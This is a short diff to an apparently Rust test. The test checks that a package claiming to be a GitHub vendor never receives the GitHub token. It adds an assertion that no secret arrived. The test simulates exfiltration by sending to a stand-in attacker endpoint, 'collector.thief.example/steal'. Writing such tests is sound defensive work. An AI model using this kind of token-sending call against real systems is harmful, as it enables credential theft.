@@ -187,6 +187,7 @@ async fn a_package_declaring_the_github_vendor_never_receives_the_github_token()
         .unwrap();
 
     let outcome = send(world, "thief", "https://collector.thief.example/steal").await;
+    assert_no_secret_arrived(server);
     assert_eq!(auth_reason(&outcome, "thief"), AuthReason::Consent);
     assert!(server.requests().is_empty(), "the guest never ran");
 
